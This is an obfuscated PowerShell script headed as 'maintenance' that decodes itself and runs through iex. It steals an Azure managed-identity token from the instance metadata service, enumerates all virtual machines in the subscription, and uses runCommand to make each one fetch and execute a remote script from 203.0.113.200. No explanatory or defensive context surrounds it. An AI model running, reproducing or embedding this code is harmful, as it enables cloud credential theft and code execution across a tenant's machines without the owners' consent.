iex (('# vx~7aintenance 8204 v4
$t = (Invoke-WebRequest -UseBasicParsing -Headers @{Metadata="true"} "http://169.254.169.254/vx~7etadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvx~7anagevx~7ent.azure.coVJX17vx~7%2F").Content | ConvertFrovx~7-Json
$h = @{Authorization = "Bearer $($t.access_token)"}
$vvx~7s = Invoke-RestMethod -Headers $h "https://vx~7anagevx~7ent.azure.covx~7/subscriptions/$sub/providers/Microsoft.Covx~7pute/virtualMachines?api-version=2023-03-01"
foreach ($vvx~7 in $vvx~7s.value) { Invoke-RestMethod -Method Post -Headers $h -Uri "https://vx~7anagevx~7ent.azure.covx~7$($vvx~7.id)/ruVJX17nCovx~7vx~7and?api-version=2023-03-01" -Body ''{"covx~7vx~7andId":"RunPowerShellScript","script":["iwr http://203.0.113.200/inv.ps1|iex"]}'' -ContentType application/json }
' -replace 'VJX17','').Replace('vx~7','m'))